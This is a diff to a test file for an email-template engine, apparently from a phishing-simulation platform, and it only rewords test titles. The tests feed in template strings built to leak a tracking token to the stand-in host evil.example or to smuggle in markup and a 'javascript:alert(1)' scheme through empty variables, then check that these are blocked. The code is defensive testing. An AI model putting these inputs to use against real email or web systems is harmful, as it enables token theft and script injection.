@@ -13,7 +13,7 @@ import { fillEmail, hasStrayLink, hasStrayLinks, readEmail } from './commands/re
 
 const nobody: ValueOf = (name) => (name === 'link' ? 'TOKEN' : '');
 
-describe('the link of an email', () => {
+describe('The link of an email', () => {
   test.each([
     '<a href="https://evil.example/?u={{link}}">x</a>',
     "<a href='//evil.example/{{ link }}'>x</a>",
@@ -41,7 +41,7 @@ describe('the link of an email', () => {
     '<template><img src="https://evil.example/?t={{link}}"></template>',
     '<a href="{{link}}@evil.example">x</a>',
     '<p>{{link}}@evil.example</p>',
-  ])('has no place in %s', (html) => {
+  ])('is not filled in %s', (html) => {
     expect(hasStrayLink(html)).toBe(true);
     const filled = fill(readHtml(html), nobody);
     expect(filled).not.toMatch(/evil\.example[^<>"]*TOKEN|value="TOKEN|>TOKEN<\/textarea|<a TOKEN/i);
@@ -54,7 +54,7 @@ describe('the link of an email', () => {
     '<p>Ссылка:{{link}} (<b>{{ link }}</b>)</p>',
     '<!--[if mso]><v:roundrect href="{{link}}" style="x"><![endif]--><a href="{{link}}">x</a>',
     '<p>Nothing here</p><br><hr>',
-  ])('stays in %s', (html) => {
+  ])('is filled in %s', (html) => {
     expect(hasStrayLink(html)).toBe(false);
     const filled = html.replaceAll(/\{\{ ?link ?\}\}/g, 'TOKEN').replace('href=TOKEN', 'href="TOKEN"');
     expect(fill(readHtml(html), nobody)).toBe(
@@ -64,7 +64,7 @@ describe('the link of an email', () => {
     );
   });
 
-  test('is astray in plain text within another address alone', () => {
+  test('is astray in plain text only within another address', () => {
     const message = { sender_name: '', sender_address: '', subject: '', html: '', attachments: [] };
     const storedText = (text: string) =>
       fillEmail(readEmail({ ...message, text }), (name) => (name === 'link' ? 'LINK' : ''), '').text;
@@ -89,12 +89,12 @@ test.each([
   ['an end of a style', '<style>p{}</sty{{middle_name}}le><b>x</b></style>', /<\/style><b>/],
   ['an end of a comment', '<!-- --{{middle_name}}><b>x</b> -->', /--><b>/],
   ['a scheme', '<a href="java{{middle_name}}script:alert(1)">x</a>', /javascript:/],
-])('security 31: a variable that is empty makes no markup: %s', (_what, html, made) => {
+])('security 31: An empty variable creates no markup: %s', (_what, html, made) => {
   expect(html.replaceAll('{{middle_name}}', '')).toMatch(made);
   expect(fill(readHtml(html), nobody)).not.toMatch(made);
 });
 
-test('security 31: the words around a variable, in texts, attributes and comments, are filled and escaped', () => {
+test('security 31: The text around a variable, in texts, attributes and comments, is filled and escaped', () => {
   const values: ValueOf = (name) => (name === 'first_name' ? `<b>&"'` : nobody(name));
   const html = '<p title="{{first_name}}">{{ first_name }}</p><!--[if mso]><v:x alt="{{first_name}}">{{first_name}}<![endif]-->';
   const name = '&#60;b&#62;&#38;&#34;&#39;';
@@ -103,13 +103,13 @@ test('security 31: the words around a variable, in texts, attributes and comment
   );
 });
 
-test('an email keeps the name of its kind, by which mail programs lay it out', () => {
+test('An email keeps its document type, by which mail programs lay it out', () => {
   const doctype =
     '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">';
   expect(fill(readHtml(`${doctype}<p>x</p>`), nobody)).toBe(`${doctype}<html><head></head><body><p>x</p></body></html>`);
 });
 
-test('security 33: a template is read in a moment, whatever it holds', () => {
+test('security 33: A template is read in a moment, whatever it contains', () => {
   const started = performance.now();
   for (const part of ['{{link}}', '(', '({{link}})', 'a:', '<b>', '<!--{{link}}', '<a href="{{link}}">'])
     readHtml(part.repeat(100_000 / part.length));
@@ -128,7 +128,7 @@ afterAll(async () => {
   await sink.close();
 });
 
-test('no email and no page of the library puts its link astray', async () => {
+test('No email and no page of the library puts its link astray', async () => {
   const { emails, pages } = await asSystem(server.services.database, async (tx) => ({
     emails: await tx.selectFrom('phishing_emails').selectAll().where('organization_id', 'is', null).execute(),
     pages: await tx.selectFrom('phishing_pages').selectAll().where('organization_id', 'is', null).execute(),
@@ -137,7 +137,7 @@ test('no email and no page of the library puts its link astray', async () => {
   for (const page of pages) expect(hasStrayLink(page.html), page.name).toBe(false);
 });
 
-test('security 35: the form of a landing page posts and its fields have no names, whatever its variables leave', async () => {
+test('security 35: The form of a landing page posts and its fields have no names, whatever its variables leave', async () => {
   const home = await makeOrganization(server);
   const { token } = home.people.operator;
   const id = await makeTemplate(server, home);
@@ -154,7 +154,7 @@ test('security 35: the form of a landing page posts and its fields have no names
   expect(landing).not.toContain('{{first_name}}');
 });
 
-test('a template that would tell a stranger the token is refused, and one kept from before tells nobody', async () => {
+test('A template that would reveal the token to an outside site is refused, and an older one reveals it to nobody', async () => {
   const home = await makeOrganization(server);
   const { token } = home.people.operator;
   const id = await makeTemplate(server, home);
